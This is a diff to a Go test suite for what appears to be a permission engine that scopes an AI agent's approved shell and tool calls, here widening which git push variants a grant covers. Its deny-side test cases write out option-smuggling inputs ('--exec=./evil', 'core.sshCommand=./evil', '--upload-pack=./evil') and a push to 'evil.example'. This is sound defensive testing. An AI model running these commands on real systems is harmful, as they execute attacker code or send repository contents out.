@@ -35,9 +35,9 @@ func TestReach(t *testing.T) {
 	e := engine(t)
 	for line, want := range map[string]string{
 		"frobnicate": "exec frobnicate (exactly)", "frobnicate a b": "exec frobnicate a b (exactly)", "frobnicate 'a; b' \"c d\" ''": "exec frobnicate 'a; b' 'c d' '' (exactly)",
-		"git push origin main": "exec git push origin main", "git push": "exec git push", "/usr/bin/git push": "exec git push", "git": "exec git (exactly)",
-		"git push -u --tags origin main": "exec git push origin main --tags -u", "git push origin main --tags -u": "exec git push origin main --tags -u",
-		"git push -o ci.skip origin main": "exec git push origin main -o ci.skip", "git push --signed origin main -q -q": "exec git push main --signed origin -q", "git push git@h:a/b main": "exec git push git@h:a/b main (with h)",
+		"git push origin main": "exec git push origin", "git push": "exec git push", "/usr/bin/git push": "exec git push", "git": "exec git (exactly)",
+		"git push -u --tags origin main": "exec git push origin --tags -u", "git push origin main --tags -u": "exec git push origin --tags -u",
+		"git push -o ci.skip origin main": "exec git push origin -o ci.skip", "git push --signed origin main -q -q": "exec git push main --signed origin -q", "git push git@h:a/b main": "exec git push git@h:a/b (with h)",
 		"git commit -am 'a text'": "exec git commit -am", "git commit -m -s": "exec git commit -m -s", "gh pr create --title 'A b' --body c -B dev": "exec gh pr create --body --title -B dev",
 		"npm publish --tag x": "exec npm publish --tag x", "npm run deploy": "exec npm run deploy (exactly)", "npm install -D lodash @types/node@20": "exec npm install -D", "npm i ./x y": "exec npm i ./x",
 		"aws s3 cp a b": "exec aws s3 cp", "gcloud compute instances list": "exec gcloud compute instances list (exactly)", "kubectl get pods": "exec kubectl get pods", "cp a /tmp/b": "exec cp (in /tmp)", "cp a /srv/b": "exec cp (elsewhere)", "rsync -a a/ h:x": "exec rsync -a (with h)", "rsync -a a/ b/": "exec rsync -a", "kubectl label pods x env=prod": "exec kubectl label env=prod",
@@ -49,8 +49,8 @@ func TestReach(t *testing.T) {
 	}
 	require.Equal(t, []string{"frobnicate", "a; b", "c d"}, reachOf(t, e, lineCall(t, `frobnicate 'a; b' "c d"`)).Words)
 	argv := reachOf(t, e, callOf(t, "exec", map[string]any{"argv": []string{"git", "push", "$(x)", ""}}))
-	require.Equal(t, core.GrantScope{Subject: "exec git push '$(x)' ''", Program: "exec git push", Words: []string{"git", "push", "$(x)", ""},
-		Session: "“git push '$(x)' ''” without other options, whatever it names but files outside the workspace",
+	require.Equal(t, core.GrantScope{Subject: "exec git push '$(x)'", Program: "exec git push", Words: []string{"git", "push", "$(x)", ""},
+		Session: "“git push '$(x)'” without other options, whatever it names but files outside the workspace",
 		Always:  "exactly this call, in whatever directory it runs"}, argv)
 	require.Equal(t, "exec frob x (exactly)", reachOf(t, e, callOf(t, "Bash", map[string]any{"command": "frob x"})).Subject, "a command is a command, whatever its tool is called")
 	require.Equal(t, core.GrantScope{Subject: "webfetch (with x.org)", Session: "the tool webfetch, whatever it names, with x.org", Always: "exactly this call"}, reachOf(t, e, callOf(t, "web_fetch", map[string]any{"url": "https://x.org"})))
@@ -258,13 +258,13 @@ var coverings = []struct {
 	covers, asks []string // lines, apart by a bar
 }{
 	// Operands that are data may be others; options and their values may not.
-	{"git push origin main", list("git push origin main | /usr/bin/git push origin main"),
-		list("git push | git push origin fix-7 | git push origin main v2 | git push origin | git push upstream main | git push origin +main | git push origin main:prod | git push origin :main | git push origin v1 +v2 | git push -u origin main | git push --no-verify origin main | git push origin main --tags | git push -o ci.skip origin main | git push origin -c main | git push -c | git push --signed | git push -- -x | git push -- origin | git push ./evil main | git push /workspace/evil main | git push ext::evil main | git push https://evil.example/x main | git pull origin main | git push --exec=./evil | git push --receive-pack ./evil")},
-	{"git push -u --tags origin main", list("git push --tags -u origin main | git push origin main -u --tags | git push -u -u --tags origin main"),
-		list("git push --tags -u origin dev | git push --tags -u upstream dev | git push -u -u --tags | git push origin main | git push -u origin main | git push --tags=x -u origin main | git push --set-upstream --tags origin main")},
-	{"git push -o ci.skip origin main", list("git push origin -o ci.skip main"), list("git push origin -o ci.skip dev | git push -o ci.run origin main | git push -o -u ci.skip | git push -oci.skip origin main")},
+	{"git push origin main", list("git push origin fix-7 | git push origin v1 v2 | git push origin | /usr/bin/git push origin main"),
+		list("git push | git push upstream main | git push origin +main | git push origin main:prod | git push origin :main | git push origin v1 +v2 | git push -u origin main | git push --no-verify origin main | git push origin main --tags | git push -o ci.skip origin main | git push origin -c main | git push -c | git push --signed | git push -- -x | git push -- origin | git push ./evil main | git push /workspace/evil main | git push ext::evil main | git push https://evil.example/x main | git pull origin main | git push --exec=./evil | git push --receive-pack ./evil")},
+	{"git push -u --tags origin main", list("git push --tags -u origin dev | git push origin main -u --tags | git push -u -u --tags origin"),
+		list("git push --tags -u upstream dev | git push -u -u --tags | git push origin main | git push -u origin main | git push --tags=x -u origin main | git push --set-upstream --tags origin main")},
+	{"git push -o ci.skip origin main", list("git push origin -o ci.skip dev"), list("git push -o ci.run origin main | git push -o -u ci.skip | git push -oci.skip origin main")},
 	{"git push --push-option x origin main", nil, list("git push --push-option y origin main | git push --push-option origin x main")},
-	{"git push git@h:a/b main", list("git push git@h:a/b main"), list("git push git@h:a/b dev | git push git@h:a/c main | git push origin main")},
+	{"git push git@h:a/b main", list("git push git@h:a/b dev"), list("git push git@h:a/c main | git push origin main")},
 	{"git clone https://x.org/y", list("git clone https://x.org/z | git clone ssh://git@x.org/y dir"),
 		list("git clone -u ./evil /workspace/r z | git clone -c core.sshCommand=./evil ssh://x.org/y | git clone --template=./evil https://x.org/y z | git clone --depth 1 https://x.org/y | git clone evil::x | git clone --config core.sshCommand=./evil https://x.org/y | git clone -b x https://x.org/y")},
 	{"git fetch ssh://x.org/y", nil, list("git fetch ssh://x.org/z | git fetch --upload-pack=./evil ssh://x.org/y | git fetch --upload-pack ./evil ssh://x.org/y")},
